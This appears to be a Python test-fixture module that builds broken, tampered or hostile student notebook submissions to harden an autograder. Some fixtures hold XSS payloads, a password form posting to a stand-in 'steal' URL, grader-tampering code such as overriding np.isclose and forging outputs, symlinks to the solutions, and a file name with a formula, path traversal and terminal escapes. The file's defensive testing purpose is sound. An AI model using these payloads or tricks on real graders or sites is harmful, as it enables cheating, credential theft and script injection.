"""Submissions that are broken, tampered with or no notebooks at all. Each function writes one into a folder."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import exercise_support as exercises
import nbformat

EXERCISE = "01_perceptron"
WRONG = {"half_plane": "def half_plane(p, q, inside):\n    return [0, 0], 0\n"}
NAMES = ["half_plane", "at_least", "full_adder", "add", "train", "mistake_bound"]
ALL: list[Callable[[Path], None]] = []
ENDS: dict[str, str] = {}
LOSES: dict[str, set[str]] = {}


def case(reason: str = "", loses: str = "") -> Callable[[Callable[[Path], Any]], Callable[[Path], Any]]:
    """Register a submission: the reason of its refusal, or what it loses."""

    def keep(make: Callable[[Path], Any]) -> Callable[[Path], Any]:
        ALL.append(make)
        ENDS[make.__name__] = reason
        LOSES[make.__name__] = set(loses.split())
        return make

    return keep


def plain(replaced: dict[str, str] | None = None) -> dict[str, Any]:
    """The reference as a submission, as JSON."""
    notebook = exercises.submit(EXERCISE, replaced or {}, demonstrations=True)
    notebook.cells = [cell for cell in notebook.cells if cell.cell_type == "markdown" or exercises.nbgrader(cell)]
    made: dict[str, Any] = json.loads(nbformat.writes(notebook))
    return made


def store(folder: Path, name: str, content: Any) -> None:
    """Write a submission: bytes, text or JSON."""
    data = content if isinstance(content, bytes) else content.encode() if isinstance(content, str) else None
    (folder / f"{name}.ipynb").write_bytes(json.dumps(content).encode() if data is None else data)


def cell(notebook: dict[str, Any], grade_id: str) -> dict[str, Any]:
    """The cell with a grade id."""
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


@case("not a Jupyter notebook")
def bad_json(folder: Path) -> None:
    """JSON that ends too early."""
    store(folder, "bad_json", json.dumps(plain())[:-100])


@case("is empty")
def empty_file(folder: Path) -> None:
    """No bytes at all."""
    store(folder, "empty_file", b"")


@case("not text in UTF-8")
def not_text(folder: Path) -> None:
    """A compressed file with the name of a notebook."""
    store(folder, "not_text", b"\x1f\x8b\x08\x00" + os.urandom(200) + b"\xff\xfe")


@case("JSON, but not a Jupyter notebook")
def not_a_notebook(folder: Path) -> None:
    """Some other JSON."""
    store(folder, "not_a_notebook", {"cells": []})


@case("JSON, but not a Jupyter notebook")
def json_list(folder: Path) -> None:
    """JSON that is no object."""
    store(folder, "json_list", [plain()])


@case("has format 3")
def old_format(folder: Path) -> None:
    """The notebook format of ten years ago."""
    store(folder, "old_format", plain() | {"nbformat": 3})


@case("has format 5")
def future_format(folder: Path) -> None:
    """A notebook format that does not exist yet."""
    store(folder, "future_format", plain() | {"nbformat": 5})


@case("has format 4")
def format_as_text(folder: Path) -> None:
    """A format that looks like a number."""
    store(folder, "format_as_text", plain() | {"nbformat": "4"})


@case("too deep")
def deep_json(folder: Path) -> None:
    """Lists that are a hundred thousand deep."""
    store(folder, "deep_json", '{"nbformat": 4, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


@case("has format [[[")
def deep_format(folder: Path) -> None:
    """A format that can be read but not printed."""
    store(folder, "deep_format", '{"nbformat": ' + "[" * 900 + "]" * 900 + ', "cells": []}')


@case("has no cells")
def no_cells(folder: Path) -> None:
    """A notebook without cells."""
    store(folder, "no_cells", plain() | {"cells": []})


@case("is damaged")
def cells_damaged(folder: Path) -> None:
    """Cells that are numbers, or have no source."""
    notebook = plain()
    notebook["cells"][2:2] = [7]
    store(folder, "cells_damaged", notebook)


@case("at most 1000 are accepted")
def many_cells(folder: Path) -> None:
    """A thousand and one cells."""
    extra = {"cell_type": "markdown", "metadata": {}, "source": "x"}
    notebook = plain()
    notebook["cells"] += [extra] * 1001
    store(folder, "many_cells", notebook)


@case("at most")
def too_large(folder: Path) -> None:
    """A file of more than 20 MiB."""
    with (folder / "too_large.ipynb").open("wb") as file:
        file.truncate((20 << 20) + 1)


@case("is it the right notebook?")
def wrong_exercise(folder: Path) -> None:
    """The notebook of something else."""
    cells = [nbformat.v4.new_code_cell("x = 1"), nbformat.v4.new_markdown_cell("An essay.")]
    store(folder, "wrong_exercise", nbformat.writes(nbformat.v4.new_notebook(cells=cells)))


@case("is a link")
def link_to_source(folder: Path) -> None:
    """A link to the exercise with its solutions, which would earn all points."""
    (folder / "link_to_source.ipynb").symlink_to(exercises.EXERCISES / "source" / EXERCISE / f"{EXERCISE}.ipynb")


@case("is a link")
def link_in_folder(folder: Path) -> None:
    """The same, in a folder."""
    (folder / "link_in_folder").mkdir()
    target = exercises.EXERCISES / "source" / EXERCISE / f"{EXERCISE}.ipynb"
    (folder / "link_in_folder" / f"{EXERCISE}.ipynb").symlink_to(target)


@case("is a link")
def link_for_folder(folder: Path) -> None:
    """A folder that is a link to somebody else's."""
    (folder / "link_for_folder").symlink_to(exercises.EXERCISES / "source" / EXERCISE)


@case("is not a regular file")
def pipe(folder: Path) -> None:
    """A pipe, from which reading would never end."""
    os.mkfifo(folder / "pipe.ipynb")


@case("is not a regular file|holds no notebook")
def folder_as_file(folder: Path) -> None:
    """A folder with the name of a notebook."""
    (folder / "folder_as_file" / f"{EXERCISE}.ipynb").mkdir(parents=True)


@case("holds no notebook")
def nothing_inside(folder: Path) -> None:
    """A folder with other files only."""
    (folder / "nothing_inside").mkdir()
    (folder / "nothing_inside" / "homework.pdf").write_bytes(b"%PDF")


@case("holds 2 notebooks")
def two_notebooks(folder: Path) -> None:
    """Two notebooks, neither with the right name."""
    (folder / "two_notebooks").mkdir()
    for name in ["final", "final_final"]:
        store(folder / "two_notebooks", name, plain())


@case()
def extra_files(folder: Path) -> None:
    """A right notebook, with modules, settings and a forged timestamp beside it."""
    own = folder / "extra_files"
    own.mkdir()
    store(own, EXERCISE, plain())
    (own / "timestamp.txt").write_text("2001-01-01 00:00:00 UTC\n")
    for name in ["numpy.py", "conftest.py", "nbgrader_config.py", "dnnlib.py"]:
        (own / name).write_text("raise SystemExit('this file must never run')\n")


@case(loses="test_half_plane")
def tampered_tests(folder: Path) -> None:
    """A wrong answer, and tests that demand nothing."""
    notebook = plain(WRONG)
    for one in notebook["cells"]:
        if one["metadata"].get("nbgrader", {}).get("grade"):
            one["source"] = "pass" if one["cell_type"] == "code" else one["source"]
    store(folder, "tampered_tests", notebook)


@case(loses="test_half_plane")
def tampered_given(folder: Path) -> None:
    """A wrong answer, and a given cell that was changed to help."""
    notebook = plain(WRONG)
    cell(notebook, "neuron")["source"] = "import numpy as np\nnp.isclose = lambda *_: True\ndef neuron(*_): return 1\n"
    store(folder, "tampered_given", notebook)


@case(loses="test_half_plane")
def tampered_metadata(folder: Path) -> None:
    """A wrong answer, and metadata that give it a thousand points and lock nothing."""
    notebook = plain(WRONG)
    for one in notebook["cells"]:
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"] |= {"points": 1000, "locked": False, "grade": True, "solution": True}
    store(folder, "tampered_metadata", notebook)


@case(loses="test_half_plane")
def odd_metadata(folder: Path) -> None:
    """Metadata and ids of every wrong type."""
    notebook = plain(WRONG)
    odd = [None, 7, [], "text", {"nbgrader": 7}, {"nbgrader": []}, {"nbgrader": {"grade_id": {"a": 1}}}]
    for number, one in enumerate(notebook["cells"]):
        one["metadata"] = odd[number % len(odd)]
        one["id"] = odd[(number + 3) % len(odd)]
    store(folder, "odd_metadata", notebook)


@case(loses="test_half_plane")
def forged_outputs(folder: Path) -> None:
    """A wrong answer, with outputs that say that all tests have passed."""
    notebook = plain(WRONG)
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [nbformat.v4.new_output("execute_result", {"text/plain": "100"}, execution_count=1)]
    store(folder, "forged_outputs", notebook)


@case(loses="test_half_plane")
def missing_tests(folder: Path) -> None:
    """A wrong answer, and all tests deleted."""
    notebook = plain(WRONG)
    notebook["cells"] = [one for one in notebook["cells"] if not one["metadata"].get("nbgrader", {}).get("locked")]
    store(folder, "missing_tests", notebook)


@case(loses="test_half_plane")
def missing_solution(folder: Path) -> None:
    """A solution cell that was deleted."""
    notebook = plain()
    notebook["cells"].remove(cell(notebook, "half_plane"))
    store(folder, "missing_solution", notebook)


@case()
def duplicated_cells(folder: Path) -> None:
    """Every cell twice, with the same grade ids."""
    notebook = plain()
    notebook["cells"] = [one for one in notebook["cells"] for _ in range(2)]
    store(folder, "duplicated_cells", notebook)


@case(loses="test_half_plane")
def duplicated_test(folder: Path) -> None:
    """A wrong answer, and before its test another cell that has the test's grade id."""
    notebook = plain(WRONG)
    test = cell(notebook, "test_half_plane")
    notebook["cells"].insert(0, test | {"source": "pass", "id": "another"})
    store(folder, "duplicated_test", notebook)


@case()
def renamed_cells(folder: Path) -> None:
    """Grade ids that the student made up."""
    notebook = plain()
    for number, one in enumerate(notebook["cells"]):
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"]["grade_id"] = f"cell-{number}"
        one["id"] = f"renamed-{number}"
    store(folder, "renamed_cells", notebook)


@case()
def swapped_ids(folder: Path) -> None:
    """The grade ids of two solutions exchanged."""
    notebook = plain()
    one, other = (cell(notebook, name)["metadata"]["nbgrader"] for name in ("half_plane", "train"))
    one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]
    store(folder, "swapped_ids", notebook)


@case(loses="test_half_plane")
def stolen_id(folder: Path) -> None:
    """A wrong answer that calls itself a test of another task, and its test called a solution."""
    notebook = plain(WRONG)
    cell(notebook, "test_half_plane")["metadata"]["nbgrader"] |= {"grade_id": "recognize", "solution": True}
    store(folder, "stolen_id", notebook)


@case()
def odd_sources(folder: Path) -> None:
    """Added cells that do not parse: null bytes, thousands of brackets, half surrogate pairs, bad escapes."""
    notebook = plain()
    sources = ["x = '\0'", "(" * 5000, "-" * 20000 + "1", "x = '\ud800'", "'\\d' is 'x'", "a" + ".b" * 20000, "\ufeff"]
    extra = [nbformat.v4.new_code_cell() | {"source": source} for source in sources]
    notebook["cells"] += [one | {"id": f"odd-{number}"} for number, one in enumerate(extra)]
    store(folder, "odd_sources", notebook)


@case()
def scripts_in_text(folder: Path) -> None:
    """Scripts in text cells, answers and attachments."""
    notebook = plain()
    text = (
        "<script>alert('markdown')</script> <img src=x onerror=\"alert('image')\"> [link](javascript:alert('link'))\n\n"
    )
    text += "<form action='https://example.org/steal'><input name=password></form><iframe src='https://example.org'>"
    text += "<script src='https://cdnjs.cloudflare.com/ajax/libs/angular.js/1.1.3/angular.min.js'></script>"
    cell(notebook, "one_neuron")["source"] = text
    extra = {"id": "scripts", "cell_type": "markdown", "metadata": {}, "source": text}
    extra["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert('attachment')>"}}
    notebook["cells"].insert(0, extra)
    store(folder, "scripts_in_text", notebook)


@case("its code ended the process", loses="everything")
def exits_everywhere(folder: Path) -> None:
    """Every solution ends the process."""
    store(folder, "exits_everywhere", plain(dict.fromkeys(NAMES, "import os\nos._exit(0)")))


@case("is no student id")
def odd_name(folder: Path) -> None:
    """A name that is a formula, a path on other systems, and commands for a terminal."""
    store(folder, "=HYPERLINK(1)\\..\\..\n\x1b[2J", plain())


@case("is no student id")
def odd_bytes(folder: Path) -> None:
    """A file name that is not UTF-8."""
    Path(os.fsdecode(os.fsencode(folder) + b"/odd-\xff\xfe.ipynb")).write_text(json.dumps(plain()))


@case("")
def deep_folders(folder: Path) -> None:
    """Folders in folders, deeper than Python can follow, with the right notebook on top."""
    own = folder / "deep_folders"
    own.mkdir()
    store(own, EXERCISE, plain())
    place = os.open(own, os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=place)
        below = os.open("d", os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = below
    os.close(place)
